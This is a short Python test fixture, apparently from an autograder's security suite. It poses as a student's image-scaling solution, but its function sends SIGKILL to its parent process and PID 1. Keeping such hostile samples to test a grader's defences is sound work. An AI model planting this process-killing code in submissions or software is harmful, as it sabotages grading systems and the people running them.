"""Tries to kill its parent and every process it can see."""

MODULE = "m03_broadcasting"
ATTACKED = ("3.3",)
FORGES_SCORE = False  # at the reduced tier it can signal the instructor's processes (SECURITY.md)
REFUSED = "module"  # by the reflection rule, before it runs

import os
import signal

import torch


def scale_channels(img, scale):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return torch.zeros_like(img)
